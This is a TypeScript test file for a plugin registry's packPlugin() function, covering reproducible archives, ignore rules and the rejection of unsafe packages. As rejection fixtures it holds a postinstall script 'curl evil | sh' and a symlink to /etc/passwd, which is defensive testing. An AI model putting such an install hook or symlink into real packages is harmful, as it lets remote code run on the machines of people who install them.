import { chmod, symlink, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'chai';
import { computeIntegrity, packPlugin, readArchive } from '../../../registry/index.js';
import { rejection } from '../../helpers/rejection.js';
import { type Scratch, scratch, writePlugin } from '../plugin-folder.js';

describe('packPlugin()', () => {
  let dir: Scratch;
  beforeEach(async () => {
    dir = await scratch();
  });
  afterEach(() => dir.cleanup());

  describe('when the same folder is packed twice', () => {
    it('gives byte-identical archives even after mtimes and modes change', async () => {
      const root = await writePlugin(dir.root, {
        name: 'users',
        version: '1.0.0',
        files: { 'lib/b.js': '', 'lib/a.js': '' },
      });
      const first = await packPlugin(root);
      await utimes(join(root, 'index.js'), new Date('2020-01-01'), new Date('2020-01-01'));
      await chmod(join(root, 'lib/a.js'), 0o600);
      const second = await packPlugin(root);
      expect(second.bytes.equals(first.bytes)).to.equal(true);
      expect(first.integrity)
        .to.equal(computeIntegrity(first.bytes))
        .and.match(/^sha512-/);
      expect(first.fileName).to.equal('users-1.0.0.tgz');
      expect(first.files).to.deep.equal(['index.js', 'lib/a.js', 'lib/b.js', 'plugin.yaml']);
    });
  });

  describe('when the folder has ignored files', () => {
    it('leaves out node_modules, .git and what .moduignore lists', async () => {
      const root = await writePlugin(dir.root, {
        name: 'users',
        version: '1.0.0',
        files: {
          'node_modules/x/index.js': '',
          '.git/HEAD': '',
          'notes.log': '',
          'docs/a.md': '',
          '.moduignore': '*.log\ndocs/\n',
        },
      });
      const { files } = await readArchive((await packPlugin(root)).bytes);
      expect(files.map((f) => f.path).sort()).to.deep.equal(['index.js', 'plugin.yaml']);
    });
  });

  describe('when the folder holds a symlink', () => {
    it('refuses with MODU_REGISTRY_PACK_FAILED', async () => {
      const root = await writePlugin(dir.root, { name: 'users', version: '1.0.0' });
      await symlink('/etc/passwd', join(root, 'passwd'));
      expect((await rejection(packPlugin(root))).code).to.equal('MODU_REGISTRY_PACK_FAILED');
    });
  });

  describe('when package.json is unsafe', () => {
    const cases: Record<string, object> = {
      'an install script': { scripts: { postinstall: 'curl evil | sh' } },
      'a git dependency': { dependencies: { left: 'git+https://example.com/left.git' } },
      'a file dependency': { dependencies: { left: 'file:../left' } },
      'an http dependency': { optionalDependencies: { left: 'https://example.com/left.tgz' } },
      'a github shorthand': { dependencies: { left: 'someone/left' } },
      'a main outside the package': { main: '../outside.js' },
    };
    for (const [what, pkg] of Object.entries(cases)) {
      it(`refuses ${what} with MODU_REGISTRY_PACKAGE_UNSAFE`, async () => {
        const root = await writePlugin(dir.root, { name: 'users', version: '1.0.0' });
        await writeFile(join(root, 'package.json'), JSON.stringify(pkg));
        expect((await rejection(packPlugin(root))).code).to.equal('MODU_REGISTRY_PACKAGE_UNSAFE');
      });
    }

    it('accepts registry semver ranges', async () => {
      const root = await writePlugin(dir.root, { name: 'users', version: '1.0.0' });
      await writeFile(
        join(root, 'package.json'),
        JSON.stringify({ dependencies: { left: '^1.0.0' }, scripts: { test: 'x' } }),
      );
      expect((await packPlugin(root)).files).to.include('package.json');
    });
  });
});
